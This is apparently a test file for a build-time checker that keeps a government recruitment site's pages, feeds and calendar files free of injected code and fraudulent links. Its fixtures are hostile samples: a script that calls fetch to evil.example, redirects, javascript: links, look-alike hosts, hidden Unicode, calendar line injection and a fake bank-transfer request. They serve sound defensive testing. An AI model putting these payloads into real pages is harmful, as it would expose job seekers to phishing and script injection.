import { readdirSync } from 'node:fs';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { registrationCalendar } from '../../src/lib/recruitment/calendarFile.ts';
import { dayMoment, timedMoment } from '../../src/lib/time/moments.ts';
import type { OwnInlineCode } from '../../src/lib/security/ownInlineCode.ts';
import { checkCalendarFile } from '../../src/lib/outputCheck/calendar.ts';
import { checkXmlFile } from '../../src/lib/outputCheck/feeds.ts';
import { checkHtmlPage } from '../../src/lib/outputCheck/html.ts';
import { rules } from '../../src/lib/outputCheck/registry.ts';
import { passedLine, refusalText } from '../../src/lib/outputCheck/report.ts';
import type { Problem } from '../../src/lib/outputCheck/rule.ts';
import { traceToContent } from '../../src/lib/outputCheck/trace.ts';
import { checkShippedText } from '../../src/lib/outputCheck/verifySite.ts';

const checker = {
  src: '/_checker/cek-keaslian.abc.js',
  code: 'check()',
  integrity: 'sha256-abc',
  pages: ['/cek-keaslian/', '/en/cek-keaslian/'],
};
const own: OwnInlineCode = { scripts: ['update()'], styles: ['body{margin:0}'], scriptFiles: [checker] };
const checkerTag = `<script type="module" src="${checker.src}" integrity="${checker.integrity}"></script>`;

/** A page the way the site builds one, with `body` inside it. */
function page(body: string, head = ''): string {
  return `<!doctype html><html lang="id"><head><meta charset="utf-8"><title>x</title><style>body{margin:0}</style>${head}</head><body>${body}<script>update()</script></body></html>`;
}

/** A calendar the way the site writes one. */
const calendar = registrationCalendar({
  uid: 'x@karier.bpjsketenagakerjaan.go.id',
  stamp: new Date('2025-09-10T03:00:00Z'),
  start: timedMoment(new Date('2025-09-08T00:00:00+07:00')),
  end: timedMoment(new Date('2025-09-14T23:59:59+07:00')),
  summary: 'Pendaftaran',
  description: 'Gratis',
  url: 'https://rekrutmen.bpjsketenagakerjaan.go.id',
  reminder: 'Besok ditutup',
  language: 'id',
});

function problemsOf(html: string, pagePath = '/'): { message: string; evidence: string }[] {
  const found: { message: string; evidence: string }[] = [];
  checkHtmlPage(html, own, (message, evidence) => found.push({ message, evidence }), pagePath);
  return found;
}

describe('checkHtmlPage', () => {
  test('accepts a page with only the project\'s own code and allowed links', () => {
    const html = page(
      [
        '<a href="/lowongan/pelayanan/">Pelayanan</a>',
        '<a class="button" data-apply href="https://rekrutmen.bpjsketenagakerjaan.go.id/">Daftar</a>',
        '<a href="https://peraturan.bpk.go.id/Details/39268" rel="noopener noreferrer">UU 24/2011</a>',
        '<a href="https://wa.me/?text=Lowongan%20BPJS">Bagikan</a>',
        '<img src="/logo.png" alt="Logo">',
        '<script type="application/ld+json">{"url":"https://www.bpjsketenagakerjaan.go.id"}</script>',
      ].join(''),
      '<link rel="canonical" href="https://karier.bpjsketenagakerjaan.go.id/"><link rel="icon" href="/favicon.svg">',
    );
    expect(problemsOf(html)).toEqual([]);
  });

  test('accepts a sentence marked as a claim the register gives a source', () => {
    expect(problemsOf(page('<p data-claim="free-of-charge">Seluruh tahapan rekrutmen tidak dipungut biaya.</p>'))).toEqual([]);
  });

  test.each([
    ['a claim the register does not have', 'never-whatsapp'],
    ['a claim the register has without a source', 'this-site'],
  ])('refuses a sentence marked as %s', (_, id) => {
    expect(problemsOf(page(`<p data-claim="${id}">BPJS Ketenagakerjaan …</p>`))).toEqual([
      { message: expect.stringMatching(/register klaim/), evidence: `data-claim="${id}"` },
    ]);
  });

  test.each([
    ['an injected inline script', page('<script>fetch("//evil.example")</script>'), /bukan skrip situs/],
    ['an injected stylesheet', page('<style>.fraud-warning{display:none}</style>'), /bukan lembar gaya situs/],
    ['a meta refresh', page('', '<meta http-equiv="refresh" content="0;url=https://evil.example">'), /http-equiv="refresh"/],
    ['a base element', page('', '<base href="https://evil.example/">'), /<base>/],
    ['an iframe', page('<iframe src="/x"></iframe>'), /<iframe>/],
    ['a form', page('<form><input name="pin"></form>'), /<form>/],
    ['a noscript block, which a browser without JavaScript parses as markup', page('<noscript><meta http-equiv="refresh" content="0;url=https://evil.example"></noscript>'), /<noscript>/],
    ['an event handler', page('<p onclick="x()">a</p>'), /onclick/],
    ['a style attribute', page('<p style="display:none">a</p>'), /atribut style/],
    ['an external script', page('<script src="https://evil.example/x.js"></script>'), /dari luar situs/],
    ['a remote image', page('<img src="https://evil.example/p.png" alt="">'), /dari luar situs/],
    ['a remote srcset candidate', page('<img src="/a.png" srcset="/a.png 1x, https://evil.example/b.png 2x" alt="">'), /dari luar situs/],
    ['a remote stylesheet', page('', '<link rel="stylesheet" href="https://evil.example/x.css">'), /dari luar situs/],
    ['a share picture on another host', page('', '<meta property="og:image" content="https://evil.example/x.png">'), /dari luar situs/],
    ['an image over http', page('<img src="http://karier.bpjsketenagakerjaan.go.id/x.png" alt="">'), /http: yang tidak aman/],
    ['an http link', page('<a href="http://www.bpjsketenagakerjaan.go.id/">a</a>'), /https:\/\//],
    ['a protocol-relative link', page('<a href="//evil.example/">a</a>'), /tautan \/\/evil\.example/],
    ['a javascript: link', page('<a href="javascript:alert(1)">a</a>'), /javascript/],
    ['a look-alike host', page('<a href="https://bpjs-ketenagakerjaan.com/">a</a>'), /meniru/],
    ['a shortener', page('<a href="https://bit.ly/abc">a</a>'), /pemendek/],
    ['a WhatsApp contact link', page('<a href="https://wa.me/6281234567890">Hubungi</a>'), /WhatsApp|bukan host resmi/],
    ['an apply button to a non-official host', page('<a class="button" href="https://forms.example/x">Lanjut</a>'), /tautan pendaftaran/],
    ['apply words on a link to a government host that is not the agency', page('<a href="https://kemnaker.go.id/">Daftar sekarang</a>'), /tautan pendaftaran/],
    ['a bidi override in the text', page('<p>moc.elpmaxe\u202E</p>'), /U\+202E/],
    ['a zero-width space in an attribute', page('<a href="/x/" title="a\u200Bb">x</a>'), /U\+200B/],
    ['JSON-LD with a link to an unofficial host', page('<script type="application/ld+json">{"sameAs":["https://bpjsketenagakerjaan.com"]}</script>'), /meniru/],
    ['JSON-LD that is not JSON', page('<script type="application/ld+json">{"a":</script>'), /bukan JSON/],
  ])('reports %s', (_name, html, message) => {
    const messages = problemsOf(html).map((problem) => problem.message);
    expect(messages.some((text) => message.test(text)), messages.join('\n')).toBe(true);
  });

  test('accepts the message checker\'s script file and its data block on the check page in either language', () => {
    const html = page(`<script type="application/json" id="message-check-data">{"references":[]}</script>${checkerTag}`);
    expect(problemsOf(html, '/cek-keaslian/')).toEqual([]);
    expect(problemsOf(html, '/en/cek-keaslian/')).toEqual([]);
  });

  test.each([
    ['on another page', checkerTag, '/lowongan/pelayanan/'],
    ['without its integrity', `<script type="module" src="${checker.src}"></script>`, '/cek-keaslian/'],
    ['with another integrity', `<script type="module" src="${checker.src}" integrity="sha256-other"></script>`, '/cek-keaslian/'],
    ['as a classic, render-blocking script', `<script src="${checker.src}" integrity="${checker.integrity}"></script>`, '/cek-keaslian/'],
    ['from another file on the site', '<script type="module" src="/_astro/other.js" integrity="sha256-abc"></script>', '/cek-keaslian/'],
  ])('refuses the message checker\'s script %s', (_name, tag, pagePath) => {
    expect(problemsOf(page(tag), pagePath).map(({ message }) => message).join('\n')).toMatch(/bukan skrip situs untuk halaman ini/);
  });

  test('refuses a JSON data block that is not JSON', () => {
    expect(problemsOf(page('<script type="application/json">{"a":</script>'), '/cek-keaslian/')).toHaveLength(1);
  });

  test('sees a script hidden after a comment closed with --!>, as a browser does', () => {
    expect(problemsOf(page('<!-- x --!><script>alert(1)</script>'))).toHaveLength(1);
  });
});

describe('checkXmlFile', () => {
  const feed = (link: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>x</title><link>${link}</link></channel></rss>`;

  test('accepts a feed of the site\'s own pages', () => {
    const found: string[] = [];
    checkXmlFile(feed('https://karier.bpjsketenagakerjaan.go.id/lowongan/'), own, (message) => found.push(message));
    expect(found).toEqual([]);
  });

  test.each([
    ['an http link', feed('http://evil.example/'), /https:\/\/|tidak boleh menautkan/],
    ['a look-alike link', feed('https://bpjsketenagakerjaan.go.id.evil.example/'), /meniru|bukan host resmi/],
    ['a file that is not well-formed', '<rss><channel></rss>', /XML tidak sah/],
    ['HTML with a script inside a description', feed('https://karier.bpjsketenagakerjaan.go.id/').replace('<title>x</title>', '<description>&lt;script&gt;alert(1)&lt;/script&gt;</description>'), /bukan skrip situs/],
  ])('reports %s', (_name, xml, message) => {
    const found: string[] = [];
    checkXmlFile(xml, own, (text) => found.push(text));
    expect(found.some((text) => message.test(text)), found.join('\n')).toBe(true);
  });
});

describe('checkCalendarFile', () => {
  const problemsIn = (text: string) => {
    const found: string[] = [];
    checkCalendarFile(text, (message) => found.push(message));
    return found;
  };

  test('accepts the calendar the site writes', () => {
    expect(problemsIn(calendar)).toEqual([]);
  });

  test('accepts the all-day calendar the site writes for a window given as dates', () => {
    const allDay = registrationCalendar({
      uid: 'y@karier.bpjsketenagakerjaan.go.id',
      stamp: new Date('2025-09-10T03:00:00Z'),
      start: dayMoment('2025-09-08', 'start'),
      end: dayMoment('2025-09-14', 'end'),
      summary: 'Pendaftaran',
      description: 'Gratis',
      url: 'https://rekrutmen.bpjsketenagakerjaan.go.id',
      language: 'id',
    });
    expect(allDay).toContain('DTSTART;VALUE=DATE:20250908');
    expect(problemsIn(allDay)).toEqual([]);
  });

  test('reports a bare carriage return that starts a line of its own', () => {
    expect(problemsIn(calendar.replace('SUMMARY;LANGUAGE=id:Pendaftaran', 'SUMMARY;LANGUAGE=id:Pendaftaran\rX-INJECTED:1')).join('\n')).toMatch(/pindah baris/);
  });

  test('reports a property the site does not write', () => {
    expect(problemsIn(calendar.replace('TRANSP:TRANSPARENT', 'ATTACH:https://evil.example/x.exe')).join('\n')).toMatch(/ATTACH/);
  });

  test('reports an event link to an unofficial host', () => {
    expect(problemsIn(calendar.replace('URL:https://rekrutmen.bpjsketenagakerjaan.go.id', 'URL:https://bit.ly/x')).join('\n')).toMatch(/pemendek/);
  });
});

describe('traceToContent', () => {
  const files = new Map([
    ['content/positions/id/a.md', 'Lihat [portal](https://bpjs-ketenagakerjaan.com/daftar).'],
    ['content/positions/en/a.md', 'See the portal.'],
  ]);

  test('names the content file that contains the evidence', () => {
    expect(traceToContent('https://bpjs-ketenagakerjaan.com/daftar', files)).toEqual(['content/positions/id/a.md']);
  });

  test('falls back to the host when the content writes the address differently', () => {
    expect(traceToContent('https://bpjs-ketenagakerjaan.com/daftar?x=1', files)).toEqual(['content/positions/id/a.md']);
  });

  test('names nothing for evidence too short to be found again', () => {
    expect(traceToContent('<', files)).toEqual([]);
  });
});

describe('checkHtmlPage and the site\'s own markup', () => {
  test('accepts an inline SVG icon and the JSON-LD vocabulary', () => {
    const html = page(
      '<a class="button" data-apply href="https://rekrutmen.bpjsketenagakerjaan.go.id/">Daftar <svg aria-hidden="true" viewBox="0 0 1 1"><path d="M0 0h1"/></svg></a>' +
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"JobPosting"}</script>',
    );
    expect(problemsOf(html)).toEqual([]);
  });

  test.each([
    ['a script inside SVG', '<svg><script>alert(1)</script></svg>'],
    ['an animation that turns a link into javascript:', '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>'],
    ['foreign content inside SVG', '<svg><foreignObject><p>x</p></foreignObject></svg>'],
  ])('reports %s', (_name, body) => {
    expect(problemsOf(page(body)).length).toBeGreaterThan(0);
  });
});

/**
 * For each rule (src/lib/outputCheck/rules/), a built file it refuses, read through the file's reader
 * as the build reads it: no rule is registered without a test that makes it fire.
 */
const hostileFiles: Record<string, [file: string, text: string]> = {
  forbiddenElements: ['a/index.html', page('<iframe src="/x"></iframe>')],
  ownInlineScripts: ['a/index.html', page('<script>fetch("//evil.example")</script>')],
  ownScriptFiles: ['cek-keaslian/index.html', page('<script type="module" src="/_astro/other.js" integrity="sha256-abc"></script>')],
  jsonDataBlocks: ['a/index.html', page('<script type="application/json">{"a":</script>')],
  ownStyles: ['a/index.html', page('<style>.fraud-warning{display:none}</style>')],
  metaHttpEquiv: ['a/index.html', page('', '<meta http-equiv="refresh" content="0;url=https://evil.example">')],
  metaAddresses: ['a/index.html', page('', '<meta property="og:image" content="https://evil.example/x.png">')],
  hiddenCharactersInAttributes: ['a/index.html', page('<a href="/x/" title="a\u200Bb">x</a>')],
  eventHandlers: ['a/index.html', page('<p onclick="x()">a</p>')],
  sourcedClaims: ['a/index.html', page('<p data-claim="never-whatsapp">BPJS Ketenagakerjaan …</p>')],
  styleAttributes: ['a/index.html', page('<p style="display:none">a</p>')],
  resourceAddresses: ['a/index.html', page('<img src="/a.png" srcset="/a.png 1x, https://evil.example/b.png 2x" alt="">')],
  linkAddresses: ['a/index.html', page('<a href="https://bit.ly/abc">a</a>')],
  hiddenCharactersInText: ['a/index.html', page('<p>moc.elpmaxe\u202E</p>')],
  scamText: ['a/index.html', page('<p>Silakan transfer ke rekening BRI 0123456789 a.n. Panitia Rekrutmen.</p>')],
  hiddenCharactersInStrings: ['a/index.html', page('<script type="application/ld+json">{"name":"Lowongan\u202E"}</script>')],
  stringAddresses: ['lowongan/rss.xml', '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><link>https://bit.ly/x</link></channel></rss>'],
  calendarLineBreaks: ['kalender/x.ics', calendar.replace('SUMMARY;LANGUAGE=id:Pendaftaran', 'SUMMARY;LANGUAGE=id:Pendaftaran\rX-INJECTED:1')],
  calendarProperties: ['kalender/x.ics', calendar.replace('TRANSP:TRANSPARENT', 'ATTACH:https://evil.example/x.exe')],
};

afterEach(() => {
  vi.restoreAllMocks();
});

describe('the output check\'s rules', () => {
  test('are each in a file of their own under rules/, named as the rule, and all in the registry', () => {
    const files = readdirSync(new URL('../../src/lib/outputCheck/rules/', import.meta.url)).map((file) => file.replace(/\.ts$/, ''));
    expect(rules.map((rule) => rule.name).sort()).toEqual(files.sort());
  });

  test('each have a hostile file that makes them fire', () => {
    expect(Object.keys(hostileFiles).sort()).toEqual(rules.map((rule) => rule.name).sort());
  });

  test.each(rules.map((rule) => [rule.name, rule] as const))('%s fires on its hostile file, and the check reports what it found', (name, rule) => {
    const [file, text] = hostileFiles[name] ?? ['', ''];
    const check = vi.spyOn(rule, 'check');
    const reported = checkShippedText(file, text, own);
    const found = check.mock.results.flatMap((result): readonly Problem[] => (result.type === 'return' ? result.value : []));
    expect(found.length).toBeGreaterThan(0);
    for (const problem of found) expect(reported).toContainEqual({ file, ...problem });
  });
});

describe('what the build says of the output check', () => {
  test('counts the files read, and when each was checked, when nothing is outside the allowlist', () => {
    expect(passedLine(57, { problems: [], checkedEarly: 55, checkedAtEnd: 2 })).toBe(
      'every built page, feed and calendar is within the allowlist (57 files: 55 checked as they were written, 2 after)',
    );
  });

  test('refuses the build with one line per problem, naming the built file and the content file it came from', () => {
    const problems = [
      { file: 'lowongan/a/index.html', message: 'tautan x / link x', evidence: 'https://bit.ly/abc' },
      { file: 'index.html', message: 'skrip / script', evidence: 'alert(1)' },
    ];
    const contentFiles = new Map([['content/positions/id/a.md', 'Daftar di https://bit.ly/abc.']]);
    expect(refusalText(problems, contentFiles).split('\n')).toEqual([
      'Hasil build memuat 2 hal di luar daftar yang diizinkan; situs tidak diterbitkan: / The build output contains 2 things outside the allowlist; the site is not published:',
      'lowongan/a/index.html  tautan x / link x  ← content/positions/id/a.md',
      'index.html  skrip / script',
    ]);
  });
});
